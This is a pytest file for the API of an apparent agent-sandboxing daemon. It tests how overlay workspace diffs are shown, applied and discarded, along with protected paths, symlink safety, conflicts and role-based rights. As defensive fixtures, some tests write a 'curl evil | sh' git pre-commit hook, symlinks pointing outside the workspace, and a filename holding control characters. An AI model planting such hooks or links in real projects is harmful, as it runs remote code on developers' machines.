"""reins serve: copy-on-write workspaces through the API (issue 15, item 2).

An overlay session started through the API writes files in its copy; the
API shows the change set `reins diff` shows (JSON and patch), applies it to
the host workspace (protected paths only when asked, symlinks reproduced and
never followed) or discards it, with the same rules as the CLI, because it
runs the CLI's own verbs as the session's user. Rights: a diff needs
read-diff (auditor, operator of the policy), apply and discard control.
"""
import http.client
import json
import os
import stat
from pathlib import Path

import pytest

from conftest import NOBODY_GID, NOBODY_UID, TIMEOUT
from test_serve import (Daemon, UnixHTTPConnection, call_as, daemon, daemons,  # noqa: F401
                        start_session, wait_ended)

OVERLAY = "version: 1\nextends: default\nfilesystem:\n  workspace_mode: overlay\n"


def overlay_policy(caller, d):
    return str(caller.write(Path(d) / "overlay.yaml", OVERLAY))


def overlay_session(daemon, ws, script, policy):
    """An overlay session that runs `script` and ends; its id."""
    session, _ = start_session(daemon, ws, ["sh", "-c", script], policy=policy)
    entry = wait_ended(daemon, session)
    assert entry["serve"]["exit_status"] == 0, daemon.call("GET", f"/v1/sessions/{session}/output")
    return session


def raw_get(sock, path):
    """(status, content type, body bytes): the bytes as they travel."""
    conn = UnixHTTPConnection(sock)
    conn.request("GET", path)
    r = conn.getresponse()
    body = r.read()
    conn.close()
    return r.status, r.getheader("Content-Type"), body


def by_path(diff):
    return {c["path"]: c for c in diff["changes"]}


def events(daemon, kind):
    return [e for e in daemon.trail_events() if e["type"] == kind]


def cli_records(daemon, session, action):
    """The records `reins apply|discard` wrote in the session user's trail."""
    record = json.loads((daemon.state / "sessions" / session / "record.json").read_text())
    trails = Path(record["trail"]).parent
    found = []
    for f in sorted(trails.glob(f"{session}-{action}-*.jsonl")):
        found += [json.loads(line) for line in f.read_text().splitlines() if line]
    return found


# --------------------------------------------------------------------------
# diff, apply, discard


def test_diff_then_apply_lands_the_changes(caller, daemon):
    ws = caller.workspace()
    caller.write(ws / "a.txt", "old\n")
    caller.write(ws / "gone.txt", "bye\n")
    policy = overlay_policy(caller, daemon.dir)
    session = overlay_session(daemon, ws, "echo new > a.txt; printf 'hello\\n' > b.txt; "
                              "rm gone.txt; head -c 3000 /dev/zero > blob.bin", policy)
    # the host is untouched until the apply
    assert (ws / "a.txt").read_text() == "old\n" and not (ws / "b.txt").exists()

    status, diff = daemon.call("GET", f"/v1/sessions/{session}/diff")
    assert status == 200, diff
    assert diff["session"] == session
    changes = by_path(diff)
    assert set(changes) == {"a.txt", "b.txt", "gone.txt", "blob.bin"}, changes
    assert changes["a.txt"]["kind"] == "modified"
    assert changes["b.txt"]["kind"] == "created"
    assert changes["gone.txt"]["kind"] == "deleted"
    assert changes["b.txt"]["new"]["size"] == 6 and changes["b.txt"]["old"] is None
    assert changes["gone.txt"]["old"]["size"] == 4 and changes["gone.txt"]["new"] is None
    assert changes["blob.bin"]["binary"] is True and changes["b.txt"]["binary"] is False
    assert not any(c["protected"] for c in diff["changes"])
    status, one = daemon.call("GET", f"/v1/sessions/{session}/diff?path=b.txt")
    assert status == 200 and [c["path"] for c in one["changes"]] == ["b.txt"], one

    status, ctype, patch = raw_get(daemon.sock, f"/v1/sessions/{session}/diff?format=patch")
    assert status == 200, patch
    assert ctype.startswith("text/x-diff")
    assert b"diff --git a/b.txt b/b.txt" in patch and b"\n+hello\n" in patch
    assert b"\n-old\n+new\n" in patch and b"truncated" not in patch
    # bounded in bytes, and says so
    status, _, cut = raw_get(daemon.sock, f"/v1/sessions/{session}/diff?format=patch&max_bytes=60")
    assert status == 200
    assert len(cut) < 60 + 200 and cut.endswith(b"\n")
    assert b"# reins: patch truncated at" in cut.splitlines()[-1], cut

    status, outcome = daemon.call("POST", f"/v1/sessions/{session}/apply", {})
    assert status == 200, outcome
    assert outcome["applied"] == 4 and outcome["closed"] is True, outcome
    assert outcome["protected_skipped"] == 0 and outcome["conflicts"] == 0
    assert {c["path"]: c["result"] for c in outcome["changes"]} == {
        "a.txt": "applied", "b.txt": "applied", "gone.txt": "applied", "blob.bin": "applied"}
    assert (ws / "a.txt").read_text() == "new\n"
    assert (ws / "b.txt").read_text() == "hello\n"
    assert not (ws / "gone.txt").exists()
    assert os.stat(ws / "b.txt").st_uid == caller.uid

    [event] = events(daemon, "serve.workspace.apply")
    assert event["about_session"] == session and event["by_uid"] == os.getuid()
    assert event["as_uid"] == caller.uid and event["status"] == 200
    assert event["applied"] == 4 and event["closed"] is True and event["paths"] == 0
    # and the CLI's own record, in the session user's trail
    [applied] = [r for r in cli_records(daemon, session, "apply")
                 if r["type"] == "workspace.apply"]
    assert applied["applied"] == 4 and applied["closed"] is True


def test_apply_part_then_discard_the_rest(caller, daemon):
    ws = caller.workspace()
    policy = overlay_policy(caller, daemon.dir)
    session = overlay_session(daemon, ws, "echo 1 > one; echo 2 > two", policy)
    status, outcome = daemon.call("POST", f"/v1/sessions/{session}/apply",
                                  {"paths": ["one"], "dry_run": True})
    assert status == 200, outcome
    assert outcome["dry_run"] is True and outcome["applied"] == 1
    assert not (ws / "one").exists()
    status, outcome = daemon.call("POST", f"/v1/sessions/{session}/apply", {"paths": ["one"]})
    assert status == 200, outcome
    assert outcome["applied"] == 1 and outcome["closed"] is False
    assert (ws / "one").read_text() == "1\n" and not (ws / "two").exists()

    status, body = daemon.call("POST", f"/v1/sessions/{session}/discard")
    assert status == 200, body
    assert body == {"session": session, "discarded": True}
    assert not (ws / "two").exists()
    status, body = daemon.call("GET", f"/v1/sessions/{session}/diff")
    assert status == 409 and "no copy-on-write workspace" in body["error"], body
    status, body = daemon.call("POST", f"/v1/sessions/{session}/discard")
    assert status == 409, body
    discards = events(daemon, "serve.workspace.discard")
    assert [(e["about_session"], e["discarded"], e["status"]) for e in discards] == [
        (session, True, 200), (session, False, 409)]
    assert [r["type"] for r in cli_records(daemon, session, "discard")
            if r["type"].startswith("workspace.")] == ["workspace.discard"]


def test_protected_paths_need_include_protected(caller, daemon):
    ws = caller.workspace()
    caller.mkdir(ws / ".git")  # each level the caller's (an unmapped owner cannot be copied up)
    caller.mkdir(ws / ".git" / "hooks")
    caller.write(ws / ".git" / "HEAD", "ref: refs/heads/main\n")
    policy = overlay_policy(caller, daemon.dir)
    session = overlay_session(
        daemon, ws, "echo 'curl evil | sh' > .git/hooks/pre-commit; mkdir -p .claude; "
        "echo '{}' > .claude/settings.json; echo fine > fine.txt", policy)
    status, diff = daemon.call("GET", f"/v1/sessions/{session}/diff")
    assert status == 200, diff
    changes = by_path(diff)
    assert changes[".git/hooks/pre-commit"]["protected"] is True
    assert changes[".claude/settings.json"]["protected"] is True
    assert changes["fine.txt"]["protected"] is False
    assert diff["protected_changes"] >= 2

    status, outcome = daemon.call("POST", f"/v1/sessions/{session}/apply", {})
    assert status == 200, outcome
    results = {c["path"]: c["result"] for c in outcome["changes"]}
    assert results[".git/hooks/pre-commit"] == "protected"
    assert results[".claude/settings.json"] == "protected"
    assert results["fine.txt"] == "applied"
    assert outcome["protected_skipped"] >= 2 and outcome["closed"] is False
    assert (ws / "fine.txt").exists()
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    assert not (ws / ".claude" / "settings.json").exists()

    status, outcome = daemon.call("POST", f"/v1/sessions/{session}/apply",
                                  {"include_protected": True})
    assert status == 200, outcome
    assert (ws / ".git" / "hooks" / "pre-commit").read_text() == "curl evil | sh\n"
    [first, second] = events(daemon, "serve.workspace.apply")
    assert first["include_protected"] is False and first["protected_skipped"] >= 2
    assert second["include_protected"] is True and second["protected_skipped"] == 0


def test_agent_symlinks_and_names_are_data(caller, daemon):
    """A symlink the agent made is reproduced as a symlink, never followed:
    nothing lands in the directory it points at. Names are JSON data."""
    ws = caller.workspace()
    caller.mkdir(ws / "sub")
    caller.write(ws / "sub" / "f", "host\n")
    victim = caller.mkdtemp(prefix="reins-victim-")
    policy = overlay_policy(caller, daemon.dir)
    evil = "evil\x1b[31m\rname\u202e.txt"
    session = overlay_session(
        daemon, ws, f"rm -rf sub; ln -s {victim} sub; ln -s {victim} link; "
        "printf x > \"$(printf 'evil\\033[31m\\rname\\342\\200\\256.txt')\"", policy)
    status, ctype, raw = raw_get(daemon.sock, f"/v1/sessions/{session}/diff")
    assert status == 200 and ctype == "application/json", raw
    # escaped in the JSON text: ASCII only, no control character raw
    assert all(0x20 <= c < 0x7f for c in raw.rstrip(b"\n")), raw
    changes = by_path(json.loads(raw))
    assert evil in changes, list(changes)
    assert changes["link"]["new"]["type"] == "symlink"
    assert changes["link"]["new"]["target"] == str(victim)
    assert changes["link"]["outside_workspace"] is True
    assert changes["sub"]["kind"] == "type-changed", changes["sub"]

    conn = UnixHTTPConnection(daemon.sock)
    conn.request("POST", f"/v1/sessions/{session}/apply", body="{}")
    r = conn.getresponse()
    raw = r.read()
    conn.close()
    assert r.status == 200, raw
    assert all(0x20 <= c < 0x7f for c in raw.rstrip(b"\n")), raw
    outcome = json.loads(raw)
    assert {c["path"]: c["result"] for c in outcome["changes"]}[evil] == "applied"
    assert os.path.islink(ws / "link") and os.readlink(ws / "link") == str(victim)
    assert os.path.islink(ws / "sub") and os.readlink(ws / "sub") == str(victim)
    assert os.listdir(victim) == [], "apply wrote through an agent's symlink"
    assert (ws / evil).read_text() == "x"


def test_conflicts_are_409_until_forced(caller, daemon):
    """A host file changed since the session started: nothing is written
    (all or nothing, as reins apply), until "force"."""
    ws = caller.workspace()
    caller.write(ws / "a.txt", "base\n")
    policy = overlay_policy(caller, daemon.dir)
    session = overlay_session(daemon, ws, "echo agent > a.txt; echo new > b.txt", policy)
    caller.write(ws / "a.txt", "host edit\n")
    status, diff = daemon.call("GET", f"/v1/sessions/{session}/diff")
    assert status == 200 and diff["conflicts"] == 1 and by_path(diff)["a.txt"]["conflict"], diff
    status, body = daemon.call("POST", f"/v1/sessions/{session}/apply", {})
    assert status == 409, body
    assert "conflict" in body["error"] and body["blocked"] is True and body["conflicts"] == 1
    assert (ws / "a.txt").read_text() == "host edit\n" and not (ws / "b.txt").exists()
    status, body = daemon.call("POST", f"/v1/sessions/{session}/apply", {"force": True})
    assert status == 200, body
    assert (ws / "a.txt").read_text() == "agent\n" and (ws / "b.txt").exists()
    assert [(e["status"], e["blocked"], e["forced"]) for e in
            events(daemon, "serve.workspace.apply")] == [(409, True, False), (200, False, True)]


def test_cli_apply_json(caller):
    """`reins apply --json`, which the daemon runs: one JSON document on
    stdout, each change's result in it."""
    ws = caller.workspace()
    r = caller.sandbox(["sh", "-c", "echo x > made.txt"], ws=ws,
                       opts=["--workspace-mode", "overlay"])
    assert r.returncode == 0, r.stderr
    session = r.stderr.split("changes kept in session ")[1].split()[0]
    r = caller.run(["apply", session, "--json"])
    assert r.returncode == 0, r.stderr
    [line] = r.stdout.splitlines()
    outcome = json.loads(line)
    assert outcome["session"] == session and outcome["applied"] == 1
    assert outcome["changes"] == [{"path": "made.txt", "kind": "created", "result": "applied"}]
    assert (ws / "made.txt").read_text() == "x\n"


# --------------------------------------------------------------------------
# states and bad input


def test_direct_and_running_sessions_get_409(caller, daemon):
    ws = caller.workspace()
    direct, _ = start_session(daemon, ws, ["sh", "-c", "echo x > f"])
    wait_ended(daemon, direct)
    for method, path in [("GET", "diff"), ("POST", "apply"), ("POST", "discard")]:
        status, body = daemon.call(method, f"/v1/sessions/{direct}/{path}")
        assert status == 409, (path, body)
        assert "no copy-on-write workspace" in body["error"], (path, body)
    policy = overlay_policy(caller, daemon.dir)
    running, _ = start_session(daemon, ws, ["sh", "-c", "echo y > g; sleep 60"], policy=policy)
    try:
        for path in ["apply", "discard"]:
            status, body = daemon.call("POST", f"/v1/sessions/{running}/{path}")
            assert status == 409, (path, body)
            assert "still running" in body["error"], (path, body)
    finally:
        daemon.call("POST", f"/v1/sessions/{running}/stop")
    assert not (ws / "g").exists()


BAD = [
    ("POST", "apply", '{"colour": 1}', "unknown field"),
    ("POST", "apply", '{"include_protected": "yes"}', "include_protected"),
    ("POST", "apply", '{"paths": "a"}', "paths"),
    ("POST", "apply", '{"paths": []}', "paths"),
    ("POST", "apply", '{"paths": [1]}', "paths[0]"),
    ("POST", "apply", '{"paths": ["a\\u0000b"]}', "malformed JSON"),
    ("POST", "discard", '{"force": true}', "unknown field"),
    ("GET", "diff?format=xml", None, "format"),
    ("GET", "diff?format=patch&max_bytes=0", None, "max_bytes"),
    ("GET", "diff?max_bytes=10", None, "max_bytes"),
]


def test_bad_input_is_400(caller, daemon):
    ws = caller.workspace()
    policy = overlay_policy(caller, daemon.dir)
    session = overlay_session(daemon, ws, "echo 1 > one", policy)
    for method, path, raw, words in BAD:
        status, body = daemon.call(method, f"/v1/sessions/{session}/{path}", raw=raw)
        assert status == 400, (path, raw, status, body)
        assert words in body["error"], (path, raw, body)
    # a path outside the workspace: the CLI's own refusal
    status, body = daemon.call("POST", f"/v1/sessions/{session}/apply", {"paths": ["../x"]})
    assert status == 400 and "not a path inside the workspace" in body["error"], body
    assert not (ws / "one").exists()


# --------------------------------------------------------------------------
# roles, and a root daemon acting as the session's user


def root_daemon_only(caller):
    if caller.name != "root":
        pytest.skip("roles for other users need a daemon running as root")


def test_rights_refusals_are_403_and_audited(caller, daemons):
    """An auditor reads the diff but cannot apply or discard; an operator of
    another policy cannot even read the diff."""
    root_daemon_only(caller)
    d = Daemon(caller, start=False)
    daemons.append(d)
    policy = overlay_policy(caller, d.dir)
    d.config = caller.write(d.dir / "serve.yaml", f"""\
version: 1
users:
  {NOBODY_UID}: {{role: operator, policies: [default]}}
  1: {{role: auditor}}
""")
    d.start()
    ws = caller.workspace()
    session = overlay_session(d, ws, "echo agent > a.txt", policy)
    status, diff = call_as(1, 1, d.sock, "GET", f"/v1/sessions/{session}/diff")
    assert status == 200 and [c["path"] for c in diff["changes"]] == ["a.txt"], diff
    for path in ["apply", "discard"]:
        status, body = call_as(1, 1, d.sock, "POST", f"/v1/sessions/{session}/{path}")
        assert status == 403, (path, body)
    status, body = call_as(NOBODY_UID, NOBODY_GID, d.sock, "GET", f"/v1/sessions/{session}/diff")
    assert status == 403 and "policy" in body["error"], body
    status, body = call_as(NOBODY_UID, NOBODY_GID, d.sock, "POST",
                           f"/v1/sessions/{session}/apply")
    assert status == 403, body
    assert not (ws / "a.txt").exists()
    refused = [(e["uid"], e["path"].rsplit("/", 1)[1], e["right"])
               for e in d.trail_events() if e["type"] == "serve.refused"]
    assert refused == [(1, "apply", "control"), (1, "discard", "control"),
                       (NOBODY_UID, "diff", "read-diff"), (NOBODY_UID, "apply", "control")]
    assert not events(d, "serve.workspace.apply")


def test_root_daemon_applies_as_the_sessions_user(caller, daemons):
    """A session of nobody, applied by root through a root daemon: the files
    land owned by nobody (the apply ran as nobody, not as root)."""
    root_daemon_only(caller)
    d = Daemon(caller, start=False)
    daemons.append(d)
    policy = overlay_policy(caller, d.dir)
    d.config = caller.write(d.dir / "serve.yaml", f"""\
version: 1
users:
  {NOBODY_UID}: {{role: operator, policies: [{policy}]}}
""")
    d.start()
    ws = caller.mkdtemp(prefix="reins-ws-nobody-")
    os.chown(ws, NOBODY_UID, NOBODY_GID)
    status, body = call_as(NOBODY_UID, NOBODY_GID, d.sock, "POST", "/v1/sessions", {
        "workspace": str(ws), "command": ["sh", "-c", "echo mine > made.txt; mkdir d; "
                                          "echo deep > d/f"], "policy": policy})
    assert status == 201, body
    session = body["session"]
    entry = wait_ended(d, session)
    assert entry["uid"] == NOBODY_UID and entry["serve"]["exit_status"] == 0, entry
    # the session's own user reviews it
    status, diff = call_as(NOBODY_UID, NOBODY_GID, d.sock, "GET", f"/v1/sessions/{session}/diff")
    assert status == 200 and {c["path"] for c in diff["changes"]} == {"made.txt", "d", "d/f"}
    # root applies it: as nobody
    status, outcome = d.call("POST", f"/v1/sessions/{session}/apply", {})
    assert status == 200, outcome
    assert outcome["applied"] == 3
    for p in ["made.txt", "d", "d/f"]:
        st = os.lstat(ws / p)
        assert (st.st_uid, st.st_gid) == (NOBODY_UID, NOBODY_GID), (p, st)
    assert not stat.S_ISLNK(os.lstat(ws / "d").st_mode)
    [event] = events(d, "serve.workspace.apply")
    assert event["by_uid"] == 0 and event["as_uid"] == NOBODY_UID and event["applied"] == 3
    status, body = call_as(NOBODY_UID, NOBODY_GID, d.sock, "POST",
                           f"/v1/sessions/{session}/discard")
    assert status == 200, body
